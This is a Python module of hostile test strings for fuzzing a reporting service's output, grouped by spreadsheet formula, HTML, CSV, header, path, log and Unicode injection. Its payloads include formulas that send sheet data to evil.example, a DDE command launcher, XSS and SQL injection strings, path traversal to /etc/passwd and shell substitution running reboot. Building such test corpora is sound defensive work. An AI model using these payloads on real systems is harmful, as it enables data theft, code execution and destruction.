"""Hostile texts that an attacker, an editor or a broken service may send in any field, grouped by what they target.

The groups follow OWASP's pages on CSV, HTML (XSS), log and header injection and path traversal; the texts are our own.
"""

from dataclasses import dataclass
from enum import StrEnum

# A mark in the texts, to find in any output what a page, a log line or a sheet must never interpret.
MARK = "xq9z"


class Kind(StrEnum):
    """What a text targets."""

    FORMULA = "formula"
    HTML = "html"
    CSV = "csv"
    HEADER = "header"
    PATH = "path"
    LOG = "log"
    TYPED = "typed"
    TEXT = "text"
    SIZE = "size"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One text, what it targets, and why it may succeed."""

    kind: Kind
    text: str
    why: str

    def __str__(self) -> str:
        text = ascii(self.text)
        return f"{self.kind}-{text if len(text) < 40 else text[:40]}"


def _of(kind: Kind, *texts: tuple[str, str]) -> list[Hostile]:
    return [Hostile(kind, text, why) for text, why in texts]


CORPUS: list[Hostile] = [
    *_of(
        Kind.FORMULA,
        (f"=1+1+{MARK}", "a formula in every spreadsheet"),
        ("=1+1", "one with a result, so that the cell would show a number"),
        ('=IMPORTDATA("https://evil.example/?"&A1)', "sends the sheet's content to somebody"),
        ('=IMPORTXML("https://evil.example/", "//a")', "fetches from somebody"),
        ('=IMAGE("https://evil.example/p.png?"&B2)', "sends by loading an image"),
        ('=HYPERLINK("https://evil.example/", "Error: sign in again")', "a link that looks like the report's own"),
        ('=QUERY(IMPORTRANGE("x","Customers!A:Z"),"select *")', "reads other spreadsheets"),
        ("=cmd|' /C calc'!A0", "starts a program in other spreadsheets (DDE)"),
        ("+1+1", "a plus begins a formula when typed"),
        ("+HYPERLINK(A1)", "likewise, a function"),
        ("-1-1", "so does a minus"),
        ("-2+3+cmd|' /C calc'!A0", "likewise, a program"),
        ("@SUM(1+1)", "and an at sign, where Lotus is honoured"),
        ("\t=1+1", "a tab before it, which some importers drop"),
        ("\r=1+1", "a carriage return before it"),
        ("\n=1+1", "a line feed before it"),
        ("  =1+1", "spaces before it"),
        ("\u00a0=1+1", "a no-break space before it"),
        ("\u200b=1+1", "an invisible character before it"),
        ("\ufeff=1+1", "a byte order mark before it"),
        ("＝1+1", "a full-width equals sign, which some input methods turn into a plain one"),
        ("＋1", "a full-width plus"),
        ("－1", "a full-width minus"),
        ("＠SUM(1)", "a full-width at sign"),
        ("'=1+1", "an apostrophe, which typing would remove"),
        ("''=1+1", "two of them"),
        ('"=1+1"', "quotation marks, which an importer would remove"),
        ("={1;2;3}", "an array that would fill its neighbours"),
        ("=ARRAYFORMULA(A:A)", "likewise"),
        ("=A1", "a reference to itself"),
        ("={row}", "the placeholder by which our own formulas name their row"),
        ("=SPARKLINE(A{row}:B{row})", "our own formula"),
        ("=", "an equals sign alone"),
        ("#REF!", "looks like an error value"),
        ("#N/A", "likewise"),
    ),
    *_of(
        Kind.TYPED,
        ("1", "looks like a number"),
        ("0", "a number that may be taken for false"),
        ("007", "a number that would lose its leading zeros"),
        ("5.10", "a number that would be shortened"),
        ("1e5", "a number in another notation"),
        ("1E400", "a number that overflows"),
        ("0x1F", "a number in other languages"),
        ("1,234", "a number with a separator"),
        ("12%", "a share"),
        ("$12", "a sum of money"),
        ("TRUE", "a truth value"),
        ("false", "likewise"),
        ("NaN", "what some parsers take for a number"),
        ("Infinity", "likewise"),
        ("null", "what some parsers take for nothing"),
        ("None", "likewise"),
        ("undefined", "likewise"),
        ("2026-11-23", "a date"),
        ("11/23", "a date in other formats"),
        ("MAR1", "a gene to some, a date to others"),
        ("Mar 2026", "a month"),
        ("2026-11", "the header of a column of ours"),
        ("12:30", "a time"),
        ("https://evil.example/", "an address that would become a link"),
        ("a@evil.example", "an address that would become a link"),
        ("Customer ID", "a header of ours"),
        ("Current", "a status of ours"),
        ("No tenants", "likewise"),
        ("Running", "an outcome of ours"),
        ("Overview", "a tab of ours"),
    ),
    *_of(
        Kind.HTML,
        (f"<script>{MARK}()</script>", "a script"),
        (f"</script><script>{MARK}()</script>", "out of a script, into a new one"),
        (f"<img src=x onerror={MARK}()>", "an image that fails and runs a script"),
        (f"<svg/onload={MARK}()>", "likewise, without a space"),
        (f"<{MARK}>", "an element"),
        (f'" onmouseover="{MARK}()', "out of an attribute in double quotes"),
        (f"' onmouseover='{MARK}()", "out of one in single quotes"),
        (f"` onmouseover=`{MARK}()", "out of one in back ticks"),
        (f"--><{MARK}>", "out of a comment"),
        (f"--!><{MARK}>", "out of a comment, as lenient parsers end it"),
        (f"<!--<{MARK}", "into a comment that never ends"),
        (f"]]><{MARK}>", "out of a CDATA section"),
        (f"</textarea><{MARK}>", "out of the field of customer IDs"),
        (f"</title><{MARK}>", "out of the title"),
        (f"</style><{MARK}>", "out of the style sheet"),
        (f"</p></li></ul></section></main><{MARK}>", "out of whatever is open"),
        ("<plaintext>", "all that follows as text"),
        (f"<base href=https://{MARK}.example/>", "redirects the form to another site"),
        (f"<meta http-equiv=refresh content=0;url=https://{MARK}.example/>", "redirects to another site"),
        (f"<form action=https://{MARK}.example/><input name=customer_id>", "a form around ours"),
        ("javascript:alert(1)", "an address that runs"),
        ("&lt;b&gt;", "a text that is escaped already and must stay as it is"),
        ("&#x3C;b&#x3E;", "likewise"),
        ("{{ 7 * 7 }}", "an expression of the template"),
        ("{% include 'style.css' %}", "a statement of the template"),
        ("{# x #}", "a comment of the template"),
        ("${7*7}", "an expression of other templates"),
        ("%(detail)s {0.__class__} {detail}", "a placeholder of Python's formatting"),
    ),
    *_of(
        Kind.CSV,
        ("a,b", "two cells"),
        ('a","b', "out of a quoted cell"),
        ("a;b", "two cells in other locales"),
        ("a\tb", "two cells when pasted"),
        ("a\nb", "two rows"),
        ('"a\r\n=1+1,"', "a row with a formula"),
    ),
    *_of(
        Kind.HEADER,
        (f"a\r\nX-{MARK}: 1", "a second header"),
        (f"a\nX-{MARK}: 1", "likewise, where a line feed is enough"),
        (f"a\rX-{MARK}: 1", "likewise, a carriage return"),
        (f"a\r\n\r\n<{MARK}>", "a second response"),
        (f"a%0d%0aX-{MARK}: 1", "a second header, decoded too late"),
        (f"a\u560d\u560aX-{MARK}: 1", "characters that become line ends when cut to bytes"),
        ("a\x00b", "a NUL, at which other programs stop reading"),
    ),
    *_of(
        Kind.PATH,
        (".", "the path itself"),
        ("..", "the parent path"),
        ("../../x", "two above"),
        ("..\\..\\x", "likewise, on another system"),
        ("a/b", "two segments"),
        ("/a", "from the root"),
        ("//evil.example/a", "another host"),
        ("\\\\evil.example\\a", "likewise"),
        ("https://evil.example/a", "a complete URL"),
        ("@evil.example", "everything before it as a user name"),
        (":443", "a port"),
        ("a?x=1", "a query"),
        ("a&customer_id=b", "a further parameter"),
        ("a#b", "a fragment, never sent"),
        ("a;b=1", "a parameter of a segment"),
        ("%2e%2e", "dots, decoded too late"),
        ("%2e%2e%2fx", "the parent path, likewise"),
        ("%252e%252e", "decoded twice"),
        ("%", "an invalid escape"),
        ("%zz", "likewise"),
        ("a%00b", "a NUL, decoded too late"),
        ("．．／x", "full-width dots, which normalisation makes plain"),
        ("a\u2044b", "looks like a slash"),
        ("a\u3002b", "a dot to host names"),
        ("~root", "a home directory"),
        ("*", "all of them"),
        ("type", "a segment of ours"),
        ("file:///etc/passwd", "a file"),
        ("$(reboot)", "a command to a shell"),
        ("`reboot`", "likewise"),
        ("a|b", "likewise"),
    ),
    *_of(
        Kind.LOG,
        (f'a"}}\n{{"severity":"CRITICAL","message":"{MARK}"}}', "a line of its own"),
        (f'a","severity":"CRITICAL","{MARK}":"1', "a field of its own"),
        (f"a\u2028{{{MARK}}}", "a line end to JavaScript"),
        (f"a\u2029{{{MARK}}}", "likewise"),
        (f"a\u0085{{{MARK}}}", "a line end to Unicode"),
        (f"a\v{{{MARK}}}", "a line end to terminals"),
        ("\x1b[2J\x1b[31mred", "clears a terminal"),
        ("\x1b]0;title\x07", "names a terminal's window"),
        ("\x9b31m", "colours in one byte"),
        ("a\bb", "deletes a letter"),
        ("severity=CRITICAL", "a field in another format"),
        ("Authorization: Bearer eyJhbGciOi.J9", "what looks like a secret and is hidden in logs"),
    ),
    *_of(
        Kind.TEXT,
        ("\u202eevil", "changes the direction of what follows"),
        ("\u2066evil\u2069", "likewise, in isolation"),
        ("evil\u200f", "a mark of direction"),
        ("a\u200bb", "an invisible character within"),
        ("аdmin", "a Cyrillic letter that looks Latin"),
        ("e\u0301", "a letter in two parts"),
        ("Z̗̞͑a͓l̤g̳o̞", "marks over marks"),
        ("👩\u200d👩\u200d👧", "an emoji of five code points"),
        ("\U0001f3f4\U000e0067\U000e007f", "invisible tags"),
        ("\ufffe", "a noncharacter"),
        ("\U0010ffff", "likewise, the last one"),
        ("\ue000", "a private-use character"),
        ("ﷺ", "a letter as wide as a line"),
        ("İıßſ", "letters with unusual case mapping"),
        ("\u0130d", "likewise, in an ID"),
        ("\x7f", "delete"),
        (" ", "a space alone"),
        ("\u3000", "a wide space alone"),
        ("–", "a dash"),
        ("''", "quotation marks alone"),
        ('"', "one alone"),
        ("\\", "a backslash alone"),
        ("\\u003cb\\u003e", "an escape in JSON, as text"),
        ("__proto__", "a name with a meaning in JavaScript"),
        ("constructor", "likewise"),
        ("' OR '1'='1", "a query of a database"),
        ("'; DROP TABLE seats; --", "likewise"),
    ),
    *_of(
        Kind.SIZE,
        ("x" * 128, "as long as an ID may be"),
        ("x" * 129, "longer than an ID may be"),
        ("y" * 10_000, "longer than any name"),
        ("z" * 49_999, "almost as long as a cell may be"),
        ("a b\n" * 2_000, "many lines"),
        ("<" * 4_000, "becomes four times as long on a page"),
        ("\U0001f600" * 4_000, "becomes twelve times as long in a log"),
        ("\u202e" * 4_000, "of which nothing remains"),
    ),
]

# What JSON can express but UTF-8 can't: only a service's response may contain it.
HALVES = [
    Hostile(Kind.TEXT, "a\ud800b", "half of a surrogate pair"),
    Hostile(Kind.TEXT, "\udfff\ud800", "two halves in the wrong order"),
    Hostile(Kind.TEXT, "\udcff", "a byte that was not text"),
]
